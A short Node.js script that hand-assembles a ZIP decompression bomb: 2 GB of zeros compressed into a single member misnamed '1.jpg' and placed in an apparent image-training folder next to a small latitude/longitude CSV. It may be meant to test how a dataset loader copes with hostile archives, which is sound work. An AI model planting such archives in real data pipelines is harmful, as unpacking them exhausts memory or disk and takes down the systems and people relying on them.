import { zipSync, strToU8 } from "fflate"; import { writeFileSync, mkdirSync } from "node:fs";
mkdirSync("/tmp/h/osv/images/train",{recursive:true});
const big=new Uint8Array(2e9); // 2 GB of zeros in one member -> zip bomb
import zlib from "node:zlib";
// build a zip by hand: deflate 2e9 zeros
const d = zlib.deflateRawSync(big,{level:9}); console.log(d.length);
function crc(){return 0}
const name=Buffer.from("1.jpg");
const local=Buffer.alloc(30); local.writeUInt32LE(0x04034b50,0); local.writeUInt16LE(20,4); local.writeUInt16LE(8,8); local.writeUInt32LE(d.length,18); local.writeUInt32LE(2e9,22); local.writeUInt16LE(name.length,26);
const cen=Buffer.alloc(46); cen.writeUInt32LE(0x02014b50,0); cen.writeUInt16LE(20,4); cen.writeUInt16LE(20,6); cen.writeUInt16LE(8,10); cen.writeUInt32LE(d.length,20); cen.writeUInt32LE(2e9,24); cen.writeUInt16LE(name.length,28);
const end=Buffer.alloc(22); end.writeUInt32LE(0x06054b50,0); end.writeUInt16LE(1,8); end.writeUInt16LE(1,10); end.writeUInt32LE(46+name.length,12); end.writeUInt32LE(30+name.length+d.length,16);
writeFileSync("/tmp/h/osv/images/train/00.zip", Buffer.concat([local,name,d,cen,name,end]));
writeFileSync("/tmp/h/osv/train.csv","id,latitude,longitude\n1,10,20\n2,3,4\n");
